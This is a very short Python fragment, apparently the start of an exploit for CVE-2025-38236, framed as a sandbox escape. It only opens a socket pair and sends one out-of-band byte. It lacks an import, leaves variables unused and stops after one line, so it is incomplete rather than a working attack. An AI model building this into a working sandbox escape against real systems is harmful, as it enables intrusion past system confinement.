# CVE-2025-38236: a way through another sandbox.
confined = "EPERM"
def attack(w):
    a, b = socket.socketpair()
    a.send(b"x", socket.MSG_OOB)
